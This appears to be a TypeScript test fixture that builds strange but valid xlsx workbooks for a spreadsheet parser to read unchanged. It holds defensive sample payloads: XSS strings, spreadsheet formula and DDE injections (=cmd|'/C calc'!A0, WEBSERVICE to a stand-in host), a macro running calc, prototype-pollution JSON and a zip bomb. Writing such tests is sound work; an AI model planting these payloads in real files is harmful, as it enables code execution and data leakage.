import { cellAt, parseA1, type WorkbookSnapshot } from '../../../src/workbook';
import { everythingBook, everythingParts } from '../everything';
import { text } from '../variants';
import { relationships, SHEET_TYPES, zipParts } from '../xlsxParts';
import { xls, xml2003 } from './foreign';
import { bomb, changed, directory, utf8 } from './tools';

/** A strange file that is nevertheless right and must be read as it stands. */
export interface HonestInput {
  readonly name: string;
  readonly bytes: () => Uint8Array;
  /** What must be in the book; gives what it found, to be compared with `expected`. */
  readonly look: (book: WorkbookSnapshot) => unknown;
  readonly expected: unknown;
}

const PICTURES = 'xl/worksheets/sheet5.xml';
const BOOK = 'xl/workbook.xml';

const at = (book: WorkbookSnapshot, sheet: string, ref: string): unknown => {
  const { top, left } = parseA1(ref)!;
  const cell = cellAt(
    book.sheets.find((s) => s.name === sheet)!,
    top,
    left,
  );
  return cell?.error ?? cell?.value;
};
const names = (book: WorkbookSnapshot): string[] => book.sheets.map((s) => s.name);

/** The everything book with other rows in its sheet of pictures, which nothing refers to. */
const withRows = (rows: string, after = ''): Uint8Array =>
  changed({ [PICTURES]: (xml) => xml.replace('</sheetData>', `${rows}</sheetData>${after}`) });
const inPictures =
  (ref: string) =>
  (book: WorkbookSnapshot): unknown =>
    at(book, '附图', ref);
const renamed = (name: string): Uint8Array =>
  changed({
    [BOOK]: (xml) => xml.replaceAll('附图', name.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')),
  });

const NAMES = [
  ['right to left', 'جدول النفقات'],
  ['right-to-left override', '\u202e附图\u202c'],
  ['emoji', '👨‍👩‍👧‍👦支出🏥'],
  ['31 letters', '名'.repeat(31)],
  ['a picture that runs a script', '<img src=x onerror=alert(1)>'],
  ['a command', "=cmd|' calc'!A0"],
  ['a formula', '@SUM(1)'],
  ['a sum', '+1-1'],
  ['__proto__', '__proto__'],
  ['a quote', "O'Brien"],
] as const;

/** Texts that some program down the line may take for something else. */
export const DANGEROUS_TEXTS = [
  '<img src=x onerror="window.wasRun=1">',
  '<script>window.wasRun=1</script>',
  '"><svg onload=window.wasRun=1>',
  '</text><script>window.wasRun=1</script>',
  'javascript:window.wasRun=1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://a.example/?x="&A1,"点这里")',
  '=WEBSERVICE("http://a.example/")',
  '@SUM(1+1)*cmd|A0',
  '+1+cmd|A0',
  '-1+cmd|A0',
  '\t=1+1',
  '{{constructor.constructor("window.wasRun=1")()}}',
  '${window.wasRun=1}',
  'NaN',
  'Infinity',
  'undefined',
  '__proto__',
  '\u202e反着写\u202c',
  '￥１，２３４．５０',
] as const;

const STRANGE_CELLS = DANGEROUS_TEXTS.map(
  (t, i) =>
    `<row r="${i + 20}"><c r="A${i + 20}" t="inlineStr"><is><t xml:space="preserve">${t.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</t></is></c></row>`,
).join('');
const ERRORS = ['#NULL!', '#DIV/0!', '#VALUE!', '#REF!', '#NAME?', '#NUM!', '#N/A', '#SPILL!', '#CALC!'];

/** Strange and honest books. */
export const HONEST: readonly HonestInput[] = [
  { name: 'one cell in the last corner', bytes: sparseBook, look: inPictures('XFD1048576'), expected: 1 },
  {
    name: '1,048,576 rows with a format and nothing in them',
    bytes: () => withRows(Array.from({ length: 1_048_477 }, (_, i) => `<row r="${i + 100}" ht="20"/>`).join('')),
    look: (book) => book.sheets[4]!.area,
    expected: parseA1('A1:B4'),
  },
  {
    name: '16,384 columns',
    bytes: () =>
      withRows(
        Array.from({ length: 20 }, (_, r) => `<row r="${r + 10}">${'<c><v>2.5</v></c>'.repeat(16_384)}</row>`).join(''),
      ),
    look: (book) => [inPictures('XFD29')(book), book.sheets[4]!.area],
    expected: [2.5, parseA1('A1:XFD29')],
  },
  {
    name: 'one merged area over the whole sheet',
    bytes: () => withRows('', '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    look: (book) => book.sheets[4]!.merges,
    expected: [parseA1('A1:XFD1048576')],
  },
  {
    name: '100,000 merged areas',
    bytes: () =>
      withRows(
        '',
        `<mergeCells>${Array.from({ length: 100_000 }, (_, i) => `<mergeCell ref="A${i + 10}:C${i + 10}"/>`).join('')}</mergeCells>`,
      ),
    look: (book) => book.sheets[4]!.merges.length,
    expected: 100_000,
  },
  {
    name: 'every column hidden',
    bytes: () =>
      changed({
        'xl/worksheets/sheet5.xml': (xml) =>
          xml.replace('<sheetData>', '<cols><col min="1" max="16384" hidden="1" width="9"/></cols><sheetData>'),
      }),
    look: (book) => book.sheets[4]!.hiddenCols.size,
    expected: 16_384,
  },
  {
    name: 'formulas in a ring',
    bytes: () =>
      withRows(
        '<row r="20"><c r="A20"><f>B20+1</f><v>0</v></c><c r="B20"><f>A20</f><v>0</v></c><c r="C20"><f>SUM(C20)</f><v>0</v></c></row>',
      ),
    look: inPictures('A20'),
    expected: 0,
  },
  {
    name: 'every error value, in formulas and without',
    bytes: () =>
      withRows(
        `<row r="20">${ERRORS.map((e, i) => `<c r="${'ABCDEFGHI'[i]}20" t="e">${i % 2 ? '<f>X1/0</f>' : ''}<v>${e}</v></c>`).join('')}</row>`,
      ),
    look: (book) => ERRORS.map((_, i) => inPictures(`${'ABCDEFGHI'[i]}20`)(book)),
    expected: ERRORS,
  },
  {
    name: 'texts that look like scripts, commands and numbers that are none',
    bytes: () => withRows(STRANGE_CELLS),
    look: (book) => DANGEROUS_TEXTS.map((_, i) => inPictures(`A${i + 20}`)(book)),
    expected: DANGEROUS_TEXTS,
  },
  ...NAMES.map(([what, name]) => ({
    name: `sheet named like ${what}`,
    bytes: () => renamed(name),
    look: (book: WorkbookSnapshot) => names(book)[4],
    expected: name,
  })),
  { name: '200 sheets', bytes: () => manySheets(200), look: (book) => book.sheets.length, expected: 207 },
  {
    name: 'macros',
    bytes: () =>
      zipParts({
        ...everythingParts(),
        'xl/vbaProject.bin': utf8('Sub Workbook_Open()\nShell "calc"\nEnd Sub'),
        '[Content_Types].xml': text(everythingParts()['[Content_Types].xml']!).replace(
          `${SHEET_TYPES}sheet.main+xml`,
          'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        ),
      }),
    look: (book) => names(book).length,
    expected: 7,
  },
  {
    name: 'a sheet of Excel 4 macros',
    bytes: () =>
      changed({
        'xl/_rels/workbook.xml.rels': (xml) =>
          xml.replace(
            /Type="[^"]*" Target="worksheets\/sheet7\.xml"/,
            'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="worksheets/sheet7.xml"',
          ),
        'xl/worksheets/sheet7.xml': () =>
          '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f><v>0</v></c></row></sheetData></xm:macrosheet>',
      }),
    look: (book) => [names(book).length, book.sheets[6]!.area],
    expected: [7, undefined],
  },
  {
    name: 'links to other books, servers and programs',
    bytes: () =>
      zipParts({
        ...everythingParts(),
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
          ['rId1', 'externalLinkPath', 'https://a.example/上年.xlsx', true],
        ]),
        'xl/connections.xml':
          '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://a.example/"/></connection></connections>',
        'xl/worksheets/_rels/sheet2.xml.rels': relationships([['rId1', 'hyperlink', 'javascript:alert(1)', true]]),
      }),
    look: (book) => at(book, '参数', 'A8'),
    expected: 1,
  },
  {
    name: 'a bomb that nobody unpacks, inside a packed object',
    bytes: () => zipParts({ ...everythingParts(), 'xl/embeddings/object1.zip': bomb('xl/media/image1.png', 1024) }),
    look: (book) => names(book).length,
    expected: 7,
  },
  {
    name: '300 MB of pictures',
    bytes: () =>
      zipParts({
        ...everythingParts(),
        ...Object.fromEntries(
          Array.from({ length: 10 }, (_, i) => [`xl/media/p${i}.bin`, new Uint8Array(29 * 2 ** 20)]),
        ),
      }),
    look: (book) => names(book).length,
    expected: 7,
  },
  { name: 'zip with sizes behind the data', bytes: streamed, look: (book) => names(book).length, expected: 7 },
  {
    name: 'zip with a comment and bytes behind it',
    bytes: () => new Uint8Array(Buffer.concat([everythingBook(), Buffer.alloc(1000, 'x')])),
    look: (book) => names(book).length,
    expected: 7,
  },
  {
    name: 'dates as Excel 2013 may write them, and of 1904',
    bytes: () =>
      changed({
        [BOOK]: (xml) => xml.replace('<workbookPr ', '<workbookPr date1904="1" '),
        [PICTURES]: (xml) => xml.replace('</sheetData>', '<row r="20"><c r="A20"><v>44560</v></c></row></sheetData>'),
      }),
    look: inPictures('A20'),
    expected: 44_560,
  },
  {
    name: 'elements nested 50,000 deep',
    bytes: () =>
      changed({
        [PICTURES]: (xml) =>
          xml.replace(
            '</worksheet>',
            `<extLst><ext uri="{1}">${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}</ext></extLst></worksheet>`,
          ),
      }),
    look: inPictures('A1'),
    expected: '附图：近两年收支对比',
  },
  {
    name: 'a text of 32,767 letters',
    bytes: () => withRows(inline('A20', '大'.repeat(32_767))),
    look: (book) => String(inPictures('A20')(book)).length,
    expected: 32_767,
  },
  {
    name: 'a text of two million letters without a full stop',
    bytes: () => withRows(inline('A20', '1,234.56万元'.repeat(200_000))),
    look: (book) => String(inPictures('A20')(book)).length,
    expected: 2_000_000,
  },
  {
    name: '200,000 different texts',
    bytes: () =>
      withRows(
        Array.from({ length: 20_000 }, (_, r) => {
          const cells = Array.from({ length: 10 }, (_, c) => `<c t="inlineStr"><is><t>第${r}行第${c}项</t></is></c>`);
          return `<row r="${r + 20}">${cells.join('')}</row>`;
        }).join(''),
      ),
    look: inPictures('J20019'),
    expected: '第19999行第9项',
  },
  {
    name: '60,000 cell formats',
    bytes: () =>
      changed({
        'xl/styles.xml': (xml) =>
          xml
            .replace(
              '</cellXfs>',
              `${'<xf numFmtId="176" fontId="0" fillId="0" borderId="1" xfId="0"/>'.repeat(60_000)}</cellXfs>`,
            )
            .replace('<cellXfs count="11"', '<cellXfs count="60011"'),
      }),
    look: (book) => at(book, '公开03表', 'F8'),
    expected: 0.1,
  },
  {
    name: 'number formats that make no sense',
    bytes: () =>
      changed({
        'xl/styles.xml': (xml) => xml.replace('#,##0.00_ ', `${'[Red]'.repeat(2000)}${'"'.replace('"', '&quot;')}`),
      }),
    look: (book) => at(book, '公开03表', 'F8'),
    expected: 0.1,
  },
  {
    name: 'a formula of 8,000 brackets, and one over the whole sheet',
    bytes: () =>
      withRows(
        `<row r="20"><c r="A20"><f>${'('.repeat(4000)}1${')'.repeat(4000)}</f><v>1</v></c><c r="B20"><f t="array" ref="A1:XFD1048576">B20*2</f><v>5</v></c><c r="C20"><f t="shared" si="77"/><v>3</v></c></row>`,
      ),
    look: (book) => ['A20', 'B20', 'C20'].map((ref) => inPictures(ref)(book)),
    expected: [1, 5, 3],
  },
  {
    name: '50,000 conditional formats of the user',
    bytes: () =>
      withRows(
        '',
        Array.from(
          { length: 50_000 },
          (_, i) =>
            `<conditionalFormatting sqref="A${i + 1}"><cfRule type="expression" priority="${i + 1}"><formula>A${i + 1}&gt;0</formula></cfRule></conditionalFormatting>`,
        ).join(''),
      ),
    look: inPictures('B4'),
    expected: 6551.32,
  },
  {
    name: 'what the book remembers, made by somebody else',
    bytes: () =>
      withMemory(
        '{"__proto__":{"x":1},"dismissed":[null,7,{"id":{"toString":1}}],"facts":[],"settings":{"constructor":1}}',
      ),
    look: (book) => [names(book).length, ({} as { x?: number }).x],
    expected: [7, undefined],
  },
  {
    name: '.xls named .xlsx',
    bytes: xls,
    look: (book) => [names(book), at(book, '表2', 'C41')],
    expected: [['表1', '表2'], 58.5],
  },
  {
    name: 'web page named .xlsx',
    bytes: () =>
      utf8(
        '<html><head><meta charset="utf-8"></head><body><table><tr><td>支出决算表</td></tr><tr><td>&lt;img src=x onerror=alert(1)&gt;</td><td>1.00</td></tr></table></body></html>',
      ),
    look: (book) => [at(book, names(book)[0]!, 'A2'), at(book, names(book)[0]!, 'B2')],
    expected: ['<img src=x onerror=alert(1)>', 1],
  },
  {
    name: 'XML spreadsheet 2003 named .xlsx',
    bytes: () => utf8(xml2003()),
    look: (book) => at(book, '表1', 'A2'),
    expected: 1.5,
  },
];

/** One cell in the last corner of a sheet: must stay cheap. */
export function sparseBook(): Uint8Array {
  return withRows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>');
}

function inline(ref: string, content: string): string {
  return `<row r="${ref.replace(/\D/g, '')}"><c r="${ref}" t="inlineStr"><is><t>${content}</t></is></c></row>`;
}

function manySheets(count: number): Uint8Array {
  const parts = everythingParts();
  const numbers = Array.from({ length: count }, (_, i) => i + 100);
  const sheet = (n: number): string =>
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${inline('A1', `第${n}张`)}</sheetData></worksheet>`;
  return zipParts({
    ...parts,
    ...Object.fromEntries(numbers.map((n) => [`xl/worksheets/sheet${n}.xml`, sheet(n)])),
    [BOOK]: text(parts[BOOK]!).replace(
      '</sheets>',
      `${numbers.map((n) => `<sheet name="单位${n}" sheetId="${n}" r:id="rId${n}"/>`).join('')}</sheets>`,
    ),
    'xl/_rels/workbook.xml.rels': text(parts['xl/_rels/workbook.xml.rels']!).replace(
      '</Relationships>',
      `${numbers.map((n) => `<Relationship Id="rId${n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${n}.xml"/>`).join('')}</Relationships>`,
    ),
    '[Content_Types].xml': text(parts['[Content_Types].xml']!).replace(
      '</Types>',
      `${numbers.map((n) => `<Override PartName="/xl/worksheets/sheet${n}.xml" ContentType="${SHEET_TYPES}worksheet+xml"/>`).join('')}</Types>`,
    ),
  });
}

/** As programs write that do not know a part's size before they have packed it: sizes in a record behind the data. */
function streamed(): Uint8Array {
  const bytes = Buffer.from(everythingBook());
  for (const [, at] of directory(bytes).entries) {
    const local = bytes.readUInt32LE(at + 42);
    bytes.writeUInt16LE(bytes.readUInt16LE(local + 6) | 8, local + 6);
    bytes.writeUInt16LE(bytes.readUInt16LE(at + 8) | 8, at + 8);
    bytes.fill(0, local + 14, local + 26);
  }
  return new Uint8Array(bytes);
}

function withMemory(json: string): Uint8Array {
  const parts = everythingParts();
  return zipParts({
    ...parts,
    'customXml/item2.xml': `<memory xmlns="urn:fubiao:memory:1">${json.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</memory>`,
    'xl/_rels/workbook.xml.rels': text(parts['xl/_rels/workbook.xml.rels']!).replace(
      '</Relationships>',
      '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml" Target="../customXml/item2.xml"/></Relationships>',
    ),
  });
}
